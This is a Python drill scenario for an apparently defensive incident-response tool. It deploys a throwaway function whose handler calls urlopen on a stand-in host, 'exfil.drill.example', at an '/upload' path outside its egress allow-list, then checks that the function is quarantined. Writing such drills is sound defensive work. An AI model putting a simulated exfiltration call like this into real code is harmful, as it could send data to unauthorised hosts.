"""egress-unknown-host: a handler connects to a host outside its egress list.

egress-denied raises the alert; the playbook quarantines the function.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

from ramparts.respond.drills.base import Check, Scenario, check_quarantined
from ramparts.respond.drills.node import ThrowawayNode

FUNCTION = "sync"
UNKNOWN = "exfil.drill.example:443"

MANIFEST = f"""
app: drill-egress
functions:
  {FUNCTION}:
    handler: h.py:handler
    egress: ["api.partner.example:443"]
"""
# Lambda-style code: urllib goes through HTTPS_PROXY, the sandbox's egress forwarder.
HANDLER = f"""
import urllib.request

def handler(event, context):
    try:
        urllib.request.urlopen("https://{UNKNOWN.split(":")[0]}/upload", timeout=10)
        return {{"reached": True}}
    except Exception as exc:
        return {{"reached": False, "error": type(exc).__name__}}
"""


class EgressUnknownHost(Scenario):
    name = "egress-unknown-host"
    summary = "a handler connects to a host outside its egress list; it is quarantined"
    rules = ("egress-denied",)
    containment = "quarantine"
    playbook_file = "egress-unknown-host.yaml"

    def app(self) -> tuple[str, dict[str, str]]:
        return MANIFEST, {"h.py": HANDLER}

    def attack(self, node: ThrowawayNode, work_dir: Path) -> None:
        node.post(f"/v1/functions/{FUNCTION}/invoke", json={"event": {}})

    def verify_contained(self, node: ThrowawayNode, incident: dict[str, Any]) -> Check:
        return check_quarantined(node, FUNCTION)
